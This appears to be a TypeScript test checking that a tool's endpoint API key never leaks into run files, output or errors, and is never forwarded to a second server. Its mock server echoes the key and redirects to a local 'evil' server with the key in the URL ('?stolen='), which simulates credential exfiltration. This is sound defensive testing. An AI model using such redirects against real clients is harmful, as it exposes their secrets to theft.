// S12 and S13 of a whole run: the key of an endpoint reaches the server it is for, and nothing that is written or told,
// whatever that server echoes and wherever it redirects to.

import assert from "node:assert/strict";
import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { listForms } from "../helpers/canaries.ts";
import { runRefeed } from "../helpers/command-line.ts";
import { sendJson, startLoopback } from "../helpers/loopback.ts";
import { createTemporaryFolder } from "../helpers/temporary-folder.ts";

const key = 'sk-Zq7+/="canary-hosted-9vXw2Lm';

test("no form of an endpoint's key is in the run, its outputs or its errors, and no other server sees it", async (context) => {
  const evil = await startLoopback(context, (_, response) => sendJson(response, { error: "thank you" }, 401));
  const server = await startLoopback(context, ({ headers, path }, response) => {
    const told = headers.authorization ?? "";
    const echo = {
      message: `Incorrect API key ${told} (${Buffer.from(told).toString("base64")})`,
      code: told,
      headers,
    };
    if (path === "/moved/models") response.writeHead(302, { location: `${evil.url}/?stolen=${told}` }).end();
    else if (path.startsWith("/moved/")) response.writeHead(307, { location: `${evil.url}/${told}` }).end();
    else sendJson(response, { error: echo }, 401, { "x-echo": encodeURIComponent(told) });
  });
  const cwd = createTemporaryFolder(context);
  const told: string[] = [];
  for (const place of ["echo", "moved"]) {
    writeFileSync(
      join(cwd, "hosted.yaml"),
      `schema: 1
name: ${place}
system: language
dataset: { name: newswire, train: 4, test: 2 }
prompt: article
model: { trainer: embedded, base: embedded:newswire, first: { endpoint: teacher } }
generations: 0
sample: { candidates: 1, maxTokens: 8 }
endpoints:
  teacher: { url: "${server.url}/${place}", model: tiny, key: OWN_KEY, limits: { waitMs: 500, tries: 1 } }
arms: { corpus: replace, verifier: none }
seeds: [0]
evaluate: { metrics: [rouge1] }
`,
    );
    const { code, stdout, stderr } = await runRefeed(["run", "hosted.yaml", "--json"], { cwd, env: { OWN_KEY: key } });
    assert.equal(code, 3, stderr);
    assert.ok(!stderr.includes("    at "), stderr);
    told.push(stdout, stderr);
  }
  assert.ok(server.received.length >= 2);
  for (const { headers } of server.received) assert.equal(headers.authorization, `Bearer ${key}`);
  assert.equal(evil.received.length, 0);
  const files = readdirSync(cwd, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
  assert.ok(files.some(({ name }) => name === "state.db"));
  const contents = files.map(({ parentPath, name }) => readFileSync(join(parentPath, name), "latin1"));
  const forms = [...listForms(key), Buffer.from(`Bearer ${key}`).toString("base64").slice(10, 40), key.slice(-10)];
  for (const text of [...contents, ...told]) {
    const leaked = forms.find((form) => text.includes(form));
    assert.equal(leaked, undefined);
  }
});
